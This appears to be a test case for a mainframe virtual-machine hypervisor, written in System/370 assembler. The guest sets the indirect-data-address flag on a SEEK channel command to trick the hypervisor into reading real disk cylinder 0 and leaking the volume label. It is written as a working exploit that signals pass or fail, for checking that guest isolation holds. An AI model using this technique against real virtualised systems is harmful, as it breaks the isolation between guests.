***********************************************************************
*  IDA: the indirect-data-address flag (X'04') set by the guest on a  *
*  SEEK.                                                              *
*                                                                     *
*  The attack.  With IDA the CCW's data address names a list of       *
*  IDAWs, real addresses, instead of the data.  A CP that points a    *
*  SEEK at its relocated copy of the argument but keeps the guest's   *
*  flags makes the channel read the copy's first four bytes - BB and  *
*  the relocated CC - as an IDAW: the seek argument comes from real   *
*  address X'00bb0001' (BB = 00bb, ALICE's cylinder 0 = real 1), any  *
*  64K boundary + 1 of real storage, chosen by the guest.  ALICE      *
*  writes the argument 00 0000 0000 (real cylinder 0, head 0) at      *
*  offset 1 of every page of her storage, so wherever one of her      *
*  pages sits on a 64K boundary of real storage, the seek goes to     *
*  real cylinder 0.  She tries every bb and reads R0 to R3 after the  *
*  seek: R3 of cylinder 0, head 0 is the volume label.                *
*                                                                     *
*  A correct CP never lets a guest's flag make the channel take CP's  *
*  data (or any other) for IDAWs: it ignores or refuses IDA where it  *
*  supplies the data itself, and translates the guest's own IDAWs     *
*  where the guest supplies them.                                     *
*                                                                     *
*  X'600D': the label was never read; X'BAD1': it was.                *
***********************************************************************
         COPY  GUEST
IDA      START X'8000'
         BALR  R12,0
         USING *,R12
         DIAG  R6,0,X'60'          R6 = the size of storage
         SR    R3,R3               every page but the program's
PLANT    C     R3,=A(IDA-1)
         BNH   PLANT20
         C     R3,=A(PEND)
         BL    PLANT30
PLANT20  MVC   1(6,R3),ZEROS       (the first store gives it a frame)
PLANT30  A     R3,=F'4096'
         CR    R3,R6
         BL    PLANT
         SR    R7,R7               bb = 0 to 255
LOOP     STC   R7,ARG+1
         LA    R1,ATTACK
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   NEXT
         LA    R3,MARKER
         L     R4,=A(BUF3)
         L     R5,=F'8192'
         BAL   R14,FIND
         BE    LEAKED
NEXT     LA    R7,1(R7)
         C     R7,=F'256'
         BL    LOOP
         LPSW  GOOD
LEAKED   LPSW  BAD1
ATTACK   CCW   X'07',ARG,X'44',6           SEEK, IDA, chain
         CCW   X'16',BUF2,X'60',64         READ R0
         CCW   X'1E',BUF1,X'60',8192       READ CKD: R1
         CCW   X'1E',BUF2,X'60',8192       R2
         CCW   X'1E',BUF3,X'20',8192       R3: the label
ARG      DC    XL6'00'                     BB CC HH (bb set)
ZEROS    DC    XL6'00'
MARKER   DC    C'VOL1CPCM'
         COPY  DOIO
PEND     EQU   *
         END
